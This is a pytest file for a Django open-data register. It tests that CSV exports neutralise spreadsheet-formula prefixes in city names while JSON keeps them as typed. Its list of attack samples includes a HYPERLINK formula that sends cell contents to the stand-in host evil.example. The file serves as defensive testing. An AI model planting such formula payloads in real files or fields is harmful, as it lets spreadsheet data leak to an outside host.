"""Issue 17, finding 5: a name that starts like a spreadsheet formula is written so no formula runs.

The CSV exports (the public register and the Office's progress overview) prefix a
quote to a cell starting with =, +, -, @ (OWASP's rule for CSV injection); the JSON
and GeoJSON keep the value as it was typed.
"""

import csv
import io

import pytest

from tests.opendata.test_opendata import city

pytestmark = pytest.mark.django_db

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', "+66 หาดใหญ่", "-2+3", "@SUM(1+1)"]


@pytest.mark.parametrize("name", ATTACKS)
def test_register_csv_neutralises_formula_prefixes_and_json_keeps_the_name(client, name):
    city("57", name_th=name, name_en=name)
    body = client.get("/register/export.csv").content.decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(body)))
    assert row["name_th"] == "'" + name and row["name_en"] == "'" + name
    records = client.get("/register/export.json").json()
    rows = records["results"] if isinstance(records, dict) and "results" in records else records
    assert name in str(rows)


def test_plain_names_and_numbers_are_left_as_they_are(client):
    city("57", name_th="เทศบาลนครยะลา", name_en="-5")
    row = next(csv.DictReader(io.StringIO(client.get("/register/export.csv").content.decode("utf-8-sig"))))
    assert row["name_th"] == "เทศบาลนครยะลา"
    assert row["name_en"] == "-5"  # a plain negative number is data, not a formula
